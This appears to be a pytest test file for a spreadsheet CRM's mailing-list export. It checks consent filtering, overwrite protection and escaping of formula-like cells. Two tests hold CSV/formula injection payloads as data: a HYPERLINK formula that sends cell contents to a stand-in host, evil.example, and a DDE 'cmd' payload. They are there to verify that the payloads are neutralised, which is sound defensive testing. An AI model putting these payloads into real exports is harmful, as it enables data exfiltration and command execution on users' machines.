"""``xlcrm export --mailing``: a list to send mailings to, without Lost or erased clients and without persons whose
consent is required and missing. The file is read back and checked; the workbook is never changed."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tests.builders import settings_records, valid_records, write_records
from xlcrm import schema
from xlcrm.checks.consent import persons
from xlcrm.cli.main import cli
from xlcrm.export.mailing import csv_cell
from xlcrm.jobs.demo import create_demo
from xlcrm.jobs.export import export_workbook
from xlcrm.xlsx.reader import read_workbook

TODAY = dt.date(2026, 11, 23)
HEADER_RU = ["ID клиента", "Контактное лицо", "Компания", "Телефон", "Email", "Город", "Менеджер", "Блок"]


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def read_xlsx(path: Path) -> list[list[str]]:
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    return [["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)]


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def small(tmp_path: Path, required: str = "Да") -> Path:
    """valid_records in Russian and four more clients: an erased one, a Lost person, a person without consent and
    one without phone or e-mail (consent given)."""
    records = valid_records("ru")
    template = dict(records["clients"][1])  # Olga: a person with consent
    extra = [
        {**template, "client_id": "C000003", "name": "Данные удалены", "consent_date": None},
        {
            **template,
            "client_id": "C000004",
            "designation": schema.LOST.name("ru"),
            "lost_reason": schema.DEFAULT_LOST_REASONS[0].name("ru"),
        },
        {**template, "client_id": "C000005", "name": "Пётр Без Согласия", "consent_date": None},
        {**template, "client_id": "C000006", "name": "Нет Контактов", "phone": None, "email": None},
    ]
    records["clients"] += extra
    records["settings"] = settings_records("ru", {"managers": ["Анна", "Борис"]}, {"consent_required": required})
    return write_records(tmp_path / "clients.xlsx", "ru", records)


def test_the_list_leaves_out_lost_erased_no_consent_and_no_address_and_says_how_many(tmp_path: Path) -> None:
    path = small(tmp_path)
    before = sha(path)
    out = tmp_path / "mailing.csv"
    result = CliRunner().invoke(cli, ["export", str(path), "--mailing", str(out), "--today", TODAY.isoformat()])
    assert result.exit_code == 0, result.output
    assert result.output == (
        f"Записан список рассылки {out}: 2 клиента; не включены 4 клиента (данные удалены: 1, "
        "со статусом «Потерян»: 1, нет согласия: 1, нет ни телефона, ни email: 1)\n"
    )
    rows = read_csv(out)
    assert rows[0] == HEADER_RU
    assert rows[1] == [
        "C000001",
        "Ivan Petrov",
        "Romashka LLC",
        "+7 916 123-45-67",
        "ivan@romashka.ru",
        "Moscow",
        "Анна",
        "7 VIP",
    ]
    assert [row[0] for row in rows[1:]] == ["C000001", "C000002"]
    assert sha(path) == before


def test_the_library_gives_the_same_list_as_an_xlsx_file(tmp_path: Path) -> None:
    path = small(tmp_path)
    result = export_workbook(path, mailing=tmp_path / "mailing.xlsx", today=TODAY)
    assert result.mailing is not None
    assert result.mailing.mailing.left_out == {"erased": 1, "lost": 1, "no_consent": 1, "no_address": 1}
    rows = read_xlsx(tmp_path / "mailing.xlsx")
    assert rows == [result.mailing.mailing.header, *result.mailing.mailing.rows]
    assert rows[0] == HEADER_RU
    assert openpyxl.load_workbook(tmp_path / "mailing.xlsx").sheetnames == ["Рассылка"]
    assert result.to_dict()["mailing"] == {
        "path": str(tmp_path / "mailing.xlsx"),
        "rows": 2,
        "left_out": {"erased": 1, "lost": 1, "no_consent": 1, "no_address": 1},
    }


def test_persons_without_consent_are_on_the_list_when_the_setting_says_no(tmp_path: Path) -> None:
    result = export_workbook(small(tmp_path, required="Нет"), mailing=tmp_path / "m.csv", today=TODAY)
    assert result.mailing is not None
    assert result.mailing.mailing.left_out == {"erased": 1, "lost": 1, "no_address": 1}
    assert "C000005" in [row[0] for row in read_csv(tmp_path / "m.csv")]


def test_the_demo_list_holds_nobody_who_needs_consent_and_has_none(tmp_path: Path) -> None:
    demo = create_demo(tmp_path / "demo.xlsx", clients=120, seed=1, locale="ru", today=TODAY).path
    out = tmp_path / "mailing.csv"
    result = export_workbook(demo, mailing=out, today=TODAY)
    assert result.mailing is not None
    rows = read_csv(out)[1:]
    clients = read_workbook(demo).sheet(schema.CLIENTS.key)
    assert clients is not None
    frame = clients.frame
    needs = persons(frame["name"], frame["company"])
    without = frame["consent_date"].isna().to_numpy() & needs
    lost = frame["designation"] == schema.LOST.name("ru")
    listed = set(row[0] for row in rows)
    assert not listed & set(frame.loc[without, "client_id"])
    assert not listed & set(frame.loc[lost, "client_id"])
    left_out = result.mailing.mailing.left_out
    assert left_out["no_consent"] >= 2 and left_out["lost"] == int(lost.sum())
    assert len(rows) + sum(left_out.values()) == len(frame)
    assert len(rows) == len(listed)  # one row per client


def test_an_existing_file_is_refused_without_force_and_replaced_with_it(tmp_path: Path) -> None:
    path = small(tmp_path)
    out = tmp_path / "mailing.csv"
    out.write_text("keep me", encoding="utf-8")
    args = ["export", str(path), "--mailing", str(out), "--today", TODAY.isoformat()]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 2
    assert "уже существует" in result.output and "--force" in result.output
    assert out.read_text(encoding="utf-8") == "keep me"
    result = CliRunner().invoke(cli, [*args, "--force"])
    assert result.exit_code == 0, result.output
    assert read_csv(out)[0] == HEADER_RU
    assert [p.read_text(encoding="utf-8") for p in (tmp_path / ".xlcrm-backups").iterdir()] == ["keep me"]


@pytest.mark.parametrize("name", ["mailing.txt", "clients.xlsx"])
def test_a_wrong_target_is_refused_and_nothing_is_written(tmp_path: Path, name: str) -> None:
    path = small(tmp_path)
    before = sha(path)
    out = tmp_path / name
    result = CliRunner().invoke(cli, ["export", str(path), "--mailing", str(out), "--today", TODAY.isoformat()])
    assert result.exit_code == 2
    assert result.output.startswith("Ошибка: ") and "Traceback" not in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert sha(path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["clients.xlsx"]


def test_text_that_would_start_a_formula_stays_text_in_every_list(tmp_path: Path) -> None:
    """A name typed as =HYPERLINK(…) (as text, imported from a CSV) must not become a link in the list a manager
    opens: in the .xlsx files it is a text cell, in the .csv files it starts with an apostrophe, which Excel and
    LibreOffice read as "text". A phone's "+7" and an ordinary name are written as they are."""
    records = valid_records("ru")
    records["clients"][0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    records["clients"][1]["company"] = "@SUM(1+1)"
    path = write_records(tmp_path / "clients.xlsx", "ru", records)
    book = openpyxl.load_workbook(path)
    book["Клиенты"]["B2"].data_type = "s"  # text, as an import or a typist with ' before it leaves it
    book.save(path)
    written = {name: tmp_path / name for name in ("mailing.xlsx", "mailing.csv", "segment.xlsx", "segment.csv")}
    export_workbook(path, mailing=written["mailing.xlsx"], today=TODAY)
    export_workbook(path, mailing=written["mailing.csv"], today=TODAY)
    segment = ["export", str(path), "--segment", "block >= 1", "--columns", "name,company,phone", "--no-consent-check"]
    result = CliRunner().invoke(
        cli, [*segment, "--xlsx", str(written["segment.xlsx"]), "--csv", str(written["segment.csv"])]
    )
    assert result.exit_code == 0, result.output

    for name in ("mailing.xlsx", "segment.xlsx"):
        sheet = openpyxl.load_workbook(written[name]).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}, name
        assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in [cell.value for cell in cells]
    for name in ("mailing.csv", "segment.csv"):
        texts = [text for row in read_csv(written[name]) for text in row]
        assert """'=HYPERLINK("http://evil.example/?"&A1,"click")""" in texts and "'@SUM(1+1)" in texts, name
        assert "+7 916 123-45-67" in texts and "Olga Sidorova" in texts, name


def test_a_csv_cell_gets_an_apostrophe_only_where_a_spreadsheet_would_run_it() -> None:
    """Names, companies and phones that start with + - @ but are no formula reach the mailing service as typed."""
    kept = ["@Home", "-Ольга-", "+7 916 123-45-67", "+7(916)123-45-67", "+ 7 916 123", "Olga"]
    assert [csv_cell(text) for text in kept] == kept
    assert [csv_cell(text) for text in ("=1+2 Ltd", "@SUM(1+1)", "+cmd|' /C calc'!A0")] == [
        "'=1+2 Ltd",
        "'@SUM(1+1)",
        "'+cmd|' /C calc'!A0",
    ]
